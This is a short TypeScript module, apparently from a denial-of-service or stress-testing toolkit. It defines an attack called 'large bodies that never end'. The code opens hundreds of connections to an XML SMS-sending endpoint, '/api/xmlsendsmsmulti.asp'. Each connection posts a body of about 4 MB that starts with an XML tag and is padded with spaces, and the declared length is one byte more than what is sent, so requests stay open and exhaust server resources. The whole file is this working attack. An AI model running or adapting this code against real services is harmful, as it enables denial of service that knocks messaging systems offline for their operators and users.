import { post, scaled, type Attack } from '../attack.ts'
import { flood } from '../flood.ts'

const body = '<Svc_Multi_Message>'.padEnd(4_194_302, ' ')

export const unfinishedBodies: Attack = {
  title: 'large bodies that never end',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 400),
      text: () => post('/api/xmlsendsmsmulti.asp', '', body, body.length + 1),
      answersToText: 0,
    }),
}
